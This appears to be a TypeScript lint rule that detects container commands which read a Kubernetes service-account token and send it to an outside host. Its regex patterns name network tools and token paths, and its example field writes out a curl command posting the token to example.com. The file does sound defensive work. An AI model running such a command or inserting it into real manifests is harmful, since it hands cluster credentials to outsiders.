import { commandLines } from "../model/commands";
import { containerRule } from "../rule/define";

const TOKEN =
  /\/var\/run\/secrets\/(?:kubernetes\.io\/serviceaccount|eks\.amazonaws\.com\/serviceaccount|azure\/tokens)/;
const SENDS = /\b(?:curl|wget|nc|ncat|socat|openssl\s+s_client|ftp|scp|rsync)\b|\/dev\/tcp\//;
const HOME =
  /https?:\/\/(?:kubernetes(?:\.default[\w.]*)?|\$\{?KUBERNETES_[A-Z_]+\}?|localhost|127\.0\.0\.1)(?=[:/"'\s]|$)/g;
const AWAY = /https?:\/\/|\/dev\/tcp\/|\b(?:nc|ncat|scp|rsync|ftp)\b/;

/** A command reads the token of the service account and sends something. */
export const tokenSentAway = containerRule({
  id: "token-sent-away",
  severity: "high",
  category: "security",
  title: "A command reads the token of the service account and sends something",
  why: "With the token whoever gets it does from anywhere what the pod may do in the cluster.",
  fix: "Take it out; let programs talk to the API server by a client that reads the token itself.",
  ids: ["NSA-pods-service-account-token", "CWE-200"],
  example: "curl https://example.com -d @/var/run/secrets/kubernetes.io/serviceaccount/token",
  readsMarks: true,
  check: (container) => {
    const found = commandLines(container).some(
      (line) => TOKEN.test(line) && SENDS.test(line) && AWAY.test(line.replace(HOME, " ")),
    );
    return found ? "reads the token of its service account and talks to somebody else" : undefined;
  },
});
